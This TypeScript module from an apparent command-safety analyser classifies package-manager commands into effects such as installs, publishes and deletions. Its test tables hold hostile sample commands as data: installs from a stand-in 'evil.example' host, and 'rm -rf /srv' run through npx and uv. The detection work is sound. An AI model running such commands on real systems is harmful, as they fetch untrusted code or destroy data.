/** Package managers: what is installed from where, what is published, which scripts run. */

import { foldLookalikes } from '../lookalikes.ts';
import type { Call } from '../shell/call.ts';
import { Options } from '../shell/options.ts';
import { type Field, field, type Output } from '../shell/scope.ts';
import { opaqueCode } from '../shell/unread.ts';
import { asShown } from '../text.ts';
import { hostOf, isLoopback } from '../tools.ts';
import { MANAGERS, type Manager } from './package-managers.ts';
import { otherRegistry, packageName, remoteSource } from './package-names.ts';
import { execute, npmScript } from './package-scripts.ts';
import { COMPOSER, DENO, runRecipes } from './recipes.ts';
import { effect, type Family } from './rule.ts';

const wordsOf = (list: string | undefined): ReadonlySet<string> =>
  new Set((list ?? '').split(' ').filter(Boolean));

/** Options that name another registry with one manager only. */
const ALSO_INDEXES: Readonly<Record<string, readonly string[]>> = {
  gem: ['-s'],
  conda: ['-c', '--channel'],
};

/** Subcommands under which some managers keep their verbs. */
const NESTED = /^(?:global|workspace|pip|tool|self|pub|python|npm)$/;

function managed(call: Call, m: Manager): Output | undefined {
  const code =
    call.program === 'bun'
      ? call.words.findIndex((word) => /^(?:-e|--eval|-p|--print)$/.test(word.text))
      : -1;
  if (code >= 0) return call.runWords([field('node'), field('-e'), ...call.words.slice(code + 1)]);
  const { rest } = call.options(m.takes, 'posix');
  let verb = call.words[rest]?.text;
  let words = call.words.slice(rest + 1);
  const globalVerb = verb === 'global';
  if (verb !== undefined && NESTED.test(verb)) {
    const inner = new Options(words, m.takes, 'posix');
    verb = words[inner.rest]?.text;
    words = words.slice(inner.rest + 1);
  }
  call.subcommand(verb);
  const options = new Options([...call.words.slice(0, rest), ...words], m.takes);
  if (
    options.has('--help', '--dry-run', '--version') &&
    !(m.manager === 'cargo' && options.value('--version')?.text)
  )
    return undefined;
  const isGlobal =
    m.isSystem ||
    globalVerb ||
    options.has(...wordsOf(m.global), '--user', '--system', '--break-system-packages') ||
    call.program === 'pipx';
  const note = (
    kind: 'package.install' | 'package.publish',
    name: string,
    version?: string,
    source?: string,
  ): void =>
    call.add({
      kind,
      manager: m.manager,
      name,
      ...(version && { version }),
      ...(source && { source }),
      ...(isGlobal && kind === 'package.install' && { global: true as const }),
    });
  const name = verb ?? (call.program === 'yarn' || call.program === 'yarnpkg' ? 'install' : '');
  if (wordsOf(m.publish).has(name)) {
    note(
      'package.publish',
      options.operands[0] && !/^\.|\/|\.(?:tgz|gem|vsix|rock|crate)$/.test(options.operands[0].text)
        ? options.operands[0].text
        : '*',
    );
    return undefined;
  }
  if (wordsOf(m.install).has(name)) {
    const names = options.operands.filter((word) => !isFolder(word));
    const registry = otherRegistry(call, options, ALSO_INDEXES[m.manager]);
    for (const word of names) {
      const { name: each, version } = packageName(word, m.manager);
      note('package.install', each, version, remoteSource(call, word) ?? registry);
    }
    if (names.length === 0) note('package.install', '*', undefined, registry);
    for (const file of options.values('-r', '--requirement')) call.reads(file);
    return m.manager === 'npm' && names.length === 0 ? npmScript(call, name, words, options) : undefined;
  }
  if (wordsOf(m.run).has(name)) return call.runWords(new Options(words, '-C --env -n -p', 'posix').operands);
  return special(call, m, name, words, options);
}

const isFolder = (word: Field): boolean =>
  /^(?:\.|\.\.?\/.*|\/.*|~.*|file:.*)$/.test(word.text) &&
  !/\.(?:deb|rpm|whl|tgz|tar\.gz|zip|pkg)$/.test(word.text);

/** What only one manager has. */
function special(
  call: Call,
  m: Manager,
  name: string,
  words: readonly Field[],
  options: Options,
): Output | undefined {
  const isGlobal = m.isSystem || options.has(...wordsOf(m.global), '--break-system-packages');
  if (wordsOf(m.remove).has(name) && isGlobal)
    for (const word of options.operands.length ? options.operands : [field('*')])
      call.touch('file.delete', `/usr/share/${m.manager}/${word.text}`, { recursive: true });
  if (m.manager === 'pip' && call.program === 'pipx' && name === 'run') return execute(call, words, 'dlx');
  const mirrored =
    m.manager === 'gem' &&
    ((name === 'config' && /^(?:mirror|set)\b/.test(options.operands[0]?.text ?? '')) ||
      (name === 'sources' && options.has('-a', '--add')))
      ? call.words.find((word) => /^https?:/.test(word.text))
      : undefined;
  if (mirrored)
    call.add({ kind: 'package.install', manager: 'gem', name: '*', source: hostOf(mirrored.text).host });
  // `poetry source add`, `conda config --add channels`, `composer config repositories.x`, `brew tap`.
  if (/^(?:source|sources|config|channels?|repo|repository|remote|mirror|tap|registry)$/.test(name)) {
    const url =
      m.manager === 'npm' ? undefined : call.words.find((word) => /(?:^|\s)https?:/.test(word.text));
    const { host } = hostOf(/https?:\S+/.exec(url?.text ?? '')?.[0] ?? '');
    if (url && !isLoopback(host))
      call.add({ kind: 'package.install', manager: m.manager, name: '*', source: host });
  }
  if (m.manager === 'cargo' && /^(?:login|logout)$/.test(name))
    call.writes(`${call.trace.place.home}/.cargo/credentials.toml`);
  if (m.manager === 'composer')
    runRecipes(
      call,
      COMPOSER,
      /^run(?:-script)?$/.test(name) ? options.operands.slice(0, 1).map((word) => word.text) : [name],
    );
  if (call.program === 'deno' && name === 'task')
    runRecipes(
      call,
      DENO,
      options.operands.slice(0, 1).map((word) => word.text),
      options.value('--cwd')?.text,
    );
  if (m.manager === 'npm') return npmScript(call, name, words, options);
  if (m.manager === 'cargo' && (name === 'run' || name === 'r')) return undefined;
  if (call.program === 'pip' || call.program === 'pip3') {
    if (name === 'config' && options.operands[0]?.text === 'set')
      call.writes(`${call.trace.place.home}/.config/pip/pip.conf`);
  }
  if (m.manager === 'apt' && name.endsWith('.deb'))
    call.add({ kind: 'package.install', manager: 'apt', name, global: true });
  if (m.manager === 'windows' || m.manager === 'brew') {
    if (name === 'services' && /^(?:stop|restart|kill)$/.test(options.operands[0]?.text ?? ''))
      call.add({ kind: 'process.kill', target: options.operands[1]?.text ?? '*' });
  }
  return undefined;
}

export const PACKAGES: Family = [
  {
    names: 'npm',
    does: (call) => run(call, 'npm'),
    harmful: {
      'npm publish': 'package.publish npm *',
      'npm i -g evil': 'package.install npm evil',
      'npm install https://evil.example/x.tgz': 'net.connect evil.example',
    },
    harmless: {
      'npm test': [],
      'npm run build': [],
      'npm ls': [],
      'npm ci': 'package.install npm *',
      'npm install lodash@4': 'package.install npm lodash@4',
    },
  },
  ...MANAGERS.filter((m) => m.names !== 'npm').map((m) => ({
    names: m.names
      .replace(/\bnpm\b ?/, '')
      .replace(/\bpnpx\b ?|\bhelm\b/g, '')
      .trim(),
    does: (call: Call) => managed(call, m),
  })),
  {
    names: 'npx pnpx bunx uvx pnpm-dlx',
    does: (call) => execute(call, call.words, call.program === 'uvx' ? 'dlx' : 'exec'),
    harmful: {
      'npx -y evil@1 --x': 'package.install npm evil@1',
      "npx -c 'rm -rf /srv'": 'file.delete /srv/**',
    },
    harmless: { 'npx vitest run': [], 'npx tsc --noEmit': [] },
  },
  {
    names: 'uv',
    does: uv,
    harmful: {
      'uv publish': 'package.publish pip *',
      'uv pip install evil': 'package.install pip evil',
      'uv run rm -rf /srv': 'file.delete /srv/**',
    },
    harmless: { 'uv run pytest': [], 'uv sync': 'package.install pip *' },
  },
  {
    names: 'twine flit',
    does: effect((call) => {
      call.subcommand(call.words[0]?.text);
      if (/^(?:upload|publish|register)$/.test(call.words[0]?.text ?? ''))
        call.add({ kind: 'package.publish', manager: 'pip', name: '*' });
    }),
    harmful: { 'twine upload dist/*': 'package.publish pip *' },
    harmless: { 'twine check dist/*': [] },
  },
  {
    names: 'go',
    does: go,
    harmful: {
      'go install evil.example/x@latest': 'package.install go evil.example/x@latest',
      'go generate ./...': [],
    },
    harmless: { 'go test ./...': [], 'go build': [], 'go run .': [] },
  },
  {
    names: 'mvn mvnw gradle gradlew sbt ant lein bazel bazelisk buck2 pants nx turbo lerna rush',
    does: effect((call) => {
      const goals = call.texts.filter((text) => !text.startsWith('-'));
      call.subcommand(goals[0]);
      const publishes = goals.some(
        (goal) =>
          /(?:^|:)(?:deploy|publish\w*|release:perform|uploadArchives|sonatype\w*)$/.test(goal) &&
          !/ToMavenLocal$/.test(goal),
      );
      if (publishes && !call.texts.includes('--dry-run'))
        call.add({
          kind: 'package.publish',
          manager: /mvn|gradle|sbt/.test(call.program) ? 'maven' : call.program,
          name: '*',
        });
    }),
    harmful: { 'mvn deploy': 'package.publish maven *' },
    harmless: { 'mvn test': [], './gradlew build': [] },
  },
  {
    names:
      'dpkg rpm pacman yay paru emerge xbps-install xbps-remove pkg installer msiexec dnf5 easy_install nix nix-env nix-shell',
    does: effect(lowLevel),
    harmful: {
      'dpkg -i evil.deb': 'package.install dpkg evil.deb',
      'pacman -S evil': 'package.install pacman evil',
    },
    harmless: { 'dpkg -l': [], 'rpm -qa': [] },
  },
];

function run(call: Call, name: string): Output | undefined {
  const m = MANAGERS.find((each) => each.names.split(' ').includes(name));
  return m ? managed(call, m) : undefined;
}

function uv(call: Call): Output | undefined {
  const takes =
    '--project --directory --python -p --index-url --extra-index-url --with --group --extra --env-file -r --requirements --cache-dir --index --default-index --script';
  const { rest } = call.options(takes, 'posix');
  const verb = call.words[rest]?.text ?? '';
  const words = call.words.slice(rest + 1);
  call.subcommand(verb);
  const options = new Options(words, takes);
  const install = (names: readonly Field[]): void => {
    const registry = otherRegistry(call, options);
    for (const word of names) {
      const source = remoteSource(call, word) ?? registry;
      call.add({
        kind: 'package.install',
        manager: 'pip',
        ...packageName(word, 'pip'),
        ...(source && { source }),
      });
    }
    if (names.length === 0)
      call.add({ kind: 'package.install', manager: 'pip', name: '*', ...(registry && { source: registry }) });
  };
  if (verb === 'publish') call.add({ kind: 'package.publish', manager: 'pip', name: '*' });
  else if (verb === 'add') install(options.operands);
  else if (verb === 'sync' || verb === 'lock') install([]);
  else if (verb === 'pip') {
    if (options.operands[0]?.text === 'install') install(options.operands.slice(1));
    if (options.operands[0]?.text === 'sync') install([]);
  } else if (verb === 'tool') {
    const [inner, ...others] = options.operands;
    if (inner?.text === 'install') install(others);
    if (inner?.text === 'run') return execute(call, words.slice(1), 'dlx');
  } else if (verb === 'run') {
    const inner = new Options(words, takes, 'posix');
    for (const word of inner.values('--with')) install([word]);
    const [program, ...args] = inner.operands;
    if (!program) return undefined;
    if (inner.has('-m', '--module')) return call.runWords([field('python3'), field('-m'), program, ...args]);
    return /\.py$/.test(program.text) || program.text === '-'
      ? call.runWords([field('python3'), program, ...args])
      : call.runWords(inner.operands);
  }
  return undefined;
}

function go(call: Call): Output | undefined {
  const verb = call.words[0]?.text ?? '';
  call.subcommand(verb);
  const options = call.options(
    '-o -C -modfile -mod -tags -ldflags -gcflags -run -count -timeout -exec -toolexec -p -coverprofile -bench -vettool',
    'dash',
    call.words.slice(1),
  );
  for (const code of options.values('-exec', '-toolexec', '-vettool')) call.runText(code.text);
  for (const file of options.values('-o', '-coverprofile')) call.writes(file, { replaces: true });
  if (verb === 'install' || verb === 'get') {
    for (const { text } of options.operands) {
      if (/^\.|^cmd\//.test(text)) continue;
      const [name = text, version] = text.split('@');
      call.add({
        kind: 'package.install',
        manager: 'go',
        name: foldLookalikes(name),
        ...(version && { version }),
        ...(verb === 'install' && { global: true as const }),
      });
    }
  }
  if (verb === 'run') {
    const [target] = options.operands;
    if (target && !target.text.includes('@')) goProgram(call, target);
    if (target?.text.includes('@'))
      call.add({
        kind: 'package.install',
        manager: 'go',
        name: target.text.split('@')[0] ?? target.text,
        version: target.text.split('@')[1] ?? 'latest',
      });
  }
  if (verb === 'env' && options.has('-w')) call.writes(`${call.trace.place.home}/.config/go/env`);
  return undefined;
}

/** `go run FILE`, `go run ./FOLDER`: what the program takes away and starts, where its words stand in the code. */
function goProgram(call: Call, target: Field): void {
  const file = /\.go$/.test(target.text)
    ? target.text
    : `${target.text.replace(/\/?(?:\.\.\.)?$/, '')}/main.go`;
  if (call.scope.elsewhere) return;
  const { path, pattern } = call.shell.locate(file, call.scope);
  const held = pattern ? undefined : call.shell.files.get(path);
  if (held && held.text === undefined) opaqueCode(held.from, call.cause, call.trace, call);
  const text =
    pattern || (held && held.text === undefined)
      ? undefined
      : (held?.text ?? call.trace.facts.ask('text', path));
  if (typeof text !== 'string') return;
  const said = text.slice(0, 50_000);
  for (const match of said.matchAll(/\bos\.Remove(?:All)?\(\s*"((?:[^"\\\n]|\\.)+)"/g))
    call.deletes(match[1] ?? '', { recursive: true });
  for (const match of said.matchAll(
    /\bexec\.Command(?:Context\(\s*\w+\s*,|\()\s*((?:"(?:[^"\\\n]|\\.)*"\s*,?\s*)+)/g,
  )) {
    const words = [...(match[1] ?? '').matchAll(/"((?:[^"\\\n]|\\.)*)"/g)].map((each) =>
      field(each[1] ?? ''),
    );
    call.runWords(words, { via: 'inside a Go program', possible: true });
  }
}

function lowLevel(call: Call): void {
  const options = call.options('-R -D --root --dbpath -b -r --config --arch -p -A');
  const { program } = call;
  const installs =
    program === 'rpm'
      ? options.has('-i', '-U', '-F', '--install', '--upgrade')
      : /^(?:pacman|yay|paru)$/.test(program)
        ? options.has('-S', '-U', '--sync') && !options.has('-s', '--search')
        : program === 'dpkg'
          ? options.has('-i', '--install')
          : program === 'emerge' ||
              program === 'xbps-install' ||
              program === 'easy_install' ||
              program === 'msiexec' ||
              program === 'installer'
            ? true
            : program === 'nix-env'
              ? options.has('-i', '--install', '-iA', '-A')
              : /^(?:nix|pkg|dnf5)$/.test(program) &&
                /^(?:install|add|profile)$/.test(call.words[0]?.text ?? '');
  const removes = /^(?:emerge|nix-env|pkg|xbps-remove)$/.test(program)
    ? program === 'xbps-remove' ||
      options.has('--unmerge', '--depclean', '-C', '-c', '-e', '--uninstall') ||
      /^(?:delete|remove|autoremove)$/.test(call.words[0]?.text ?? '')
    : program === 'rpm'
      ? options.has('-e', '--erase')
      : options.has('-R', '-r', '-P', '--remove', '--purge');
  call.subcommand(call.words[0]?.text);
  const names = options.operands.filter((word) => !/^(?:install|add|profile)$/.test(word.text));
  if (installs && !removes)
    for (const word of names)
      call.add({ kind: 'package.install', manager: program, name: asShown(word.text), global: true });
  if (removes && (!installs || program === 'emerge'))
    for (const word of names.length ? names : [field('*')])
      call.touch('file.delete', `/usr/share/${program}/${word.text}`, { recursive: true });
}
